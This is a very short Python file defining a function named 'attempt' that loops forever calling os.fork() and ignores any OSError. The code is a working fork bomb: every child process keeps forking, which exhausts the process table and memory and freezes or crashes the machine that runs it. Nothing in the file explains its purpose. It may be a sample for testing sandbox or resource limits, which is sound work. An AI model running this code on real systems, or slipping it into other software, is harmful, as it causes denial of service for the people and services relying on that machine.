import os


def attempt():
    while True:
        try:
            os.fork()
        except OSError:
            pass
